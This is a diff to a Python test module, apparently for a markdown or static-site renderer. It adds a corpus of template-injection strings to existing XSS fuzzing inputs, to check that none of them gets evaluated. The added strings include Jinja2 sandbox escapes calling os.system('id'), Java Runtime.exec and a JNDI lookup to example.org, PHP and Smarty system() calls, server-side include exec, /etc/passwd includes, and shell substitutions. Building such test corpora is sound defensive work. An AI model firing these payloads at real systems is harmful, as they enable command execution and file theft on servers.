@@ -36,6 +36,35 @@ OWN: Final = (
     '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="//example.org/x">',
     "<link rel=stylesheet href=//example.org/x.css><video src=//example.org/x poster=//x.org>",
 )
+TEMPLATES: Final = (
+    "{{6*7}} {{ 6*'7' }} {{ config }} {{ self }} {{ nav }} {{ page.content }} {{- 6*7 -}}",
+    "{% for x in [6] %}{{ x*7 }}{% endfor %} {%- set y = 6*7 -%}{{ y }} {# hidden #}",
+    "{% endraw %}{% endblock %}{{ 6*7 }}{% block content %}x{% endblock %}{% raw %}",
+    "{{ ''.__class__.__base__.__subclasses__() }} {{ [].class.base.subclasses() }}",
+    "{{ lipsum.__globals__['os'].system('id') }} {{ cycler.__init__.__globals__.os.popen('id') }}",
+    "{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f') }} {{ config.items()|list|safe }}",
+    "{% include '/etc/passwd' %} {% extends 'main.html' %} {% import 'os' as os %}",
+    "{{ macros_info() }} {{ fix_url('javascript:alert(1)') }} {{ '<svg onload=alert(1)>'|safe }}",
+    "${6*7} ${{6*7}} #{6*7} *{6*7} @{6*7} ~{6*7} __${6*7}__::.x ${jndi:ldap://example.org/x}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')} ${self.module.cache.util.os.system('id')}",
+    "<%= 6*7 %> <%- 6*7 %> <% import os; os.system('id') %> <%! x = 1 %> <%include file='/x'/>",
+    "<#assign x='id'?eval><#list 1..7 as n>${n}</#list> [#if true]x[/#if] ${'x'?new()}",
+    "#set($x=6*7)$x ${x} $!x $class.inspect('java.lang.Runtime') #include('/etc/passwd')",
+    "{php}system('id');{/php} {$smarty.version} {if system('id')}{/if} {literal}x{/literal}",
+    "{{['id']|filter('system')|join}} {{ _self.env.display('x') }} {{ dump(app) }}",
+    '@(6*7) @{ var x = 6*7; } @System.IO.File.ReadAllText("x") @Html.Raw("<b>x</b>")',
+    "{{#with (lookup this 'constructor')}}{{this}}{{/with}} {{{ x }}} {{> part}} {{&x}} {{!x}}",
+    "{{constructor.constructor('alert(1)')()}} {{$on.constructor('alert(1)')()}} [[6*7]]",
+    '<div v-html="alert(1)" ng-init="alert(1)" x-data="alert(1)" :x="alert(1)">{{6*7}}</div>',
+    '{{ printf "%s" .Env }} {{ define "x" }}x{{ end }} {{ template "x" }} {{ .System "id" }}',
+    "{{ 'x' | append: 'y' }} {% assign x = 6 | times: 7 %}{{ x }} {% render 'x' %}",
+    "<?= 6*7 ?> <?php system('id'); ?> <?xml-stylesheet href='//example.org/x.css'?>",
+    '--8<-- "mkdocs.yml" ;--8<-- :::silkline.build [TOC] [[_TOC_]] !!! note [^1] *[x]: y',
+    "<!-- silkline:headlines --> <!-- silkline:nothing --> <!--more-->",
+    '<!--#include file="/etc/passwd"--> <!--#exec cmd="id"--> <esi:include src=//example.org/>',
+    "{0.__class__} {0!r:>9} {x!a} %(x)s %n $HOME ${HOME} `id` $(id) \\N{DIGIT ONE}",
+)
+"""Of what templates and other makers of pages are made; in braces a product, never 42."""
 WHOLE: Final = os.environ.get("HOSTILE") == "all"
 _HIDDEN: Final = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
 _PAIR: Final = re.compile(r"(?=([^\w\s]{2}))", re.ASCII)
@@ -55,7 +84,7 @@ def corpora() -> dict[str, list[str]]:
     payloads = (CORPORA / "payloadbox-xss/xss-payload-list.txt").read_text("utf-8")
     cases = json.loads((CORPORA / "dompurify/expect.json").read_text("utf-8"))
     return {
-        "own": list(OWN),
+        "own": [*OWN, *TEMPLATES],
         "payloadbox-xss": payloads.splitlines(),
         "blns": json.loads((CORPORA / "blns/blns.json").read_text("utf-8")),
         "dompurify": [case["payload"] for case in cases],
@@ -71,9 +100,10 @@ def strings() -> list[str]:
 def _part(every: list[str]) -> Iterator[str]:
     """Our own strings, and each other that has something that none before it had."""
     met: set[str] = set()
-    for text in sorted(every, key=lambda text: (text not in OWN, len(text), text)):
+    own = {*OWN, *TEMPLATES}
+    for text in sorted(every, key=lambda text: (text not in own, len(text), text)):
         new = set(_classes(text)) - met
-        if new or text in OWN:
+        if new or text in own:
             met |= new
             yield text
 
